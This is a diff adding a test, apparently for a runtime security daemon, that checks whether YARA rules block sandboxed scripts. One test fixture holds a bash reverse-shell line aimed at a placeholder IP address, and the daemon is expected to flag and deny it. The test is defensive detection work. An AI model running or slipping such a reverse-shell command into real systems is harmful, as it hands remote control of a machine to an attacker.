@@ -70,6 +70,26 @@ def row01_what_is_on_the_list_is_denied(t):
     watch.finding(category=ADDED_BINARY, path="/tmp/y", action="allowed")
 
 
+def test_yara_rules_judge(t):
+    """A reverse shell's text, on no list, by our own rules; and another by one of the user's."""
+    box = t.box()
+    folder = t.scratch()
+    with open(os.path.join(folder, "user.yar"), "w", encoding="ascii") as f:
+        f.write('rule User_Rule { strings: $a = "a word of the user" condition: $a }\n')
+    own = os.path.join(lwtest.TOP, "conf/yara")
+    watch = t.daemon(box, mode="enforce", content={"yara": [own, folder]})
+    box.put("/tmp/r.sh", "#!/bin/sh\nexit 3\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n")
+    box.put("/tmp/u.sh", "#!/bin/sh\n# a word of the user\n")
+    box.put("/tmp/ok.sh", "#!/bin/sh\nexit 4\n")
+    for path, rule in (("/tmp/r.sh", "Reverse_Shell_Shell"), ("/tmp/u.sh", "User_Rule")):
+        t.denied(box.run([path]))
+        found = watch.finding(path=path, action="denied", rule="malicious")
+        t.equal(found.finding["indicator"]["signatures"],
+                [{"yaraRuleSignature": {"yaraRule": rule}, "signatureType": "SIGNATURE_TYPE_FILE"}])
+        t.contains(found.properties["Reasons"], "yara: " + rule)
+    t.ran(box.run(["/tmp/ok.sh"]), 4)
+
+
 def row01_detect_only_says_what_it_would_do(t):
     box = t.box()
     watch = t.daemon(box, mode="detect", rules=[DENY_DRIFT])
